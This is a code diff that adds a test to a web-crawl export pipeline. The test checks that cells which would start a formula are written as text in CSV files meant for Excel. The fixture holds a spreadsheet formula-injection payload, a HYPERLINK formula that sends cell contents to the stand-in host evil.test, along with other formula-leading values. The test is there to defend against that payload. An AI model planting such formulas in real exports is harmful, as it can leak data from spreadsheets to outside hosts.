@@ -329,3 +329,22 @@ def test_excel_csv_starts_with_a_byte_order_mark(filled: str, tmp_path: Path) ->
     assert "url" in rows[0] and any(r["text"].startswith("市政府") for r in rows)
     refused = _export("--db", filled, "-o", str(tmp_path / "x.jsonl"), "--excel")
     assert refused.returncode == 2 and "--excel is for CSV; this export is jsonl" in refused.stderr
+
+
+def test_an_excel_csv_starts_no_cell_with_a_formula() -> None:
+    """Crawled titles and text are anyone's words: in a CSV for Excel, a cell
+    that would start a formula is shown as text; a plain CSV keeps them."""
+    import io
+
+    from pipelines.export import write_csv
+
+    record = {"url": "http://a.test/", "title": '=HYPERLINK("http://evil.test/?"&A1,"click")',
+              "text": "@SUM(1+1)", "author": "-2+3", "confidence": 0.5,
+              "language": "en"}  # fmt: skip
+    for excel, prefix in ((True, "'"), (False, "")):
+        out = io.StringIO()
+        list(write_csv(iter([record]), out, excel=excel))
+        (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+        for field in ("title", "text", "author"):
+            assert row[field] == prefix + record[field]
+        assert (row["url"], row["confidence"], row["language"]) == ("http://a.test/", "0.5", "en")
